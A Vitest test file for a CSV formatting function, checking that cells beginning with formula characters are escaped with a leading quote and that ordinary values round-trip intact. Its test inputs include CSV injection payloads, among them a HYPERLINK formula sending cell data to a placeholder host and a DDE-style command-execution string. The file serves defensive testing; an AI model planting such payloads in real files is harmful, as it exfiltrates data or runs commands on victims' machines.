import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { formatCsv } from './format-csv.ts'

describe('formatCsv', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    '-2+3+cmd|’ /C calc’!A0',
  ])('OU4 turns %j into text', formula => {
    const [[cell] = []]: string[][] = parse(formatCsv([[formula]]))
    expect(cell).toBe(`'${formula}`)
  })

  it('OU4 preserves numbers, commas, quotes and line breaks', () => {
    const rows = [
      ['Retailer', 'Clicks'],
      ['Alder, "Finch" & Co', -12.5],
      ['two\nlines', 3],
    ]
    expect(parse(formatCsv(rows))).toEqual(rows.map(row => row.map(String)))
  })
})
